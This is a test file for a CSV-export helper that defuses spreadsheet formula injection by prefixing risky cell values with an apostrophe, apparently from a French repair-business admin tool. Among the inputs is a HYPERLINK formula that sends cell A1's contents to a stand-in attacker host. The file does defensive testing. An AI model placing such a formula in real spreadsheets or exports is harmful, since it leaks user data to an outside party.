import { test } from '@japa/runner'
import { neutraliseFormula } from '#core/admin/csv'

test.group('neutraliseFormula', () => {
  test('{value} is turned into text')
    .with([
      { value: '=SUM(A1:A9)' },
      { value: '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")' },
      { value: '+33612345678' },
      { value: '+1+1' },
      { value: '-2+3' },
      { value: '-1' },
      { value: '@SUM(A1)' },
      { value: '\t=1+1' },
      { value: '\r=1+1' },
      { value: '=' },
    ])
    .run(({ assert }, { value }) => {
      assert.strictEqual(neutraliseFormula(value), `'${value}`)
    })

  test('{value} is left untouched')
    .with([
      { value: 'Dupont' },
      { value: '' },
      { value: '06 12 34 56 78' },
      { value: 'jean.dupont@repairs.example' },
      { value: 'a=b' },
      { value: '1+1' },
      { value: '12,50 €' },
      { value: '30/03/2026 00:30' },
      { value: "'=already neutralised" },
      { value: '—' },
      { value: 'Réparation lave-linge' },
    ])
    .run(({ assert }, { value }) => {
      assert.strictEqual(neutraliseFormula(value), value)
    })

  test('prefixes a single apostrophe, once', ({ assert }) => {
    const once = neutraliseFormula('=1+1')
    assert.equal(once, "'=1+1")
    assert.equal(neutraliseFormula(once), once)
  })
})
